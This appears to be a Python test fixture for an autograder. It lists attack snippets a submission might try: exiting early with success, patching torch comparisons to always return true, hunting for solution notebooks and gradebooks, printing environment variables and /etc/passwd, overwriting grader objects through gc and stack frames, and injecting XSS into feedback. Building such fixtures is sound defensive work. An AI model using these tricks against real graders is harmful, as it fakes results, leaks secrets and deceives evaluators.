"""Code that would rather have the points some other way: what a made-up class tries on the grader."""

from __future__ import annotations

ATTACKS = {
    "ends its process with success": "import os\nos._exit(0)",
    "makes every comparison true": "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = torch.allclose\n"
    "torch.Tensor.__eq__ = lambda *a: torch.tensor(True)\ntorch.Tensor.__bool__ = lambda s: True",
    "looks for the solutions and the gradebook": "import glob, os\nfor place in ('/', '/home', '/root', '..'):\n"
    "    for name in glob.glob(place + '/*/*/*.ipynb') + glob.glob(place + '/*.db'):\n"
    "        print(open(name, errors='replace').read()[:100])\nprint(os.environ, open('/etc/passwd').read())",
    "walks the stack for the judge": "import gc, sys\nfor thing in gc.get_objects():\n"
    "    if type(thing).__name__ in ('CellResult', 'Verdict'):\n        object.__setattr__(thing, 'points', 99.0)\n"
    "frame = sys._getframe()\nwhile frame:\n    frame.f_globals['passed'] = True\n    frame = frame.f_back",
    "writes to whoever reads the feedback": "print('<script>alert(document.cookie)</script>')\n"
    "raise SystemExit('<img src=x onerror=alert(1)>')",
}
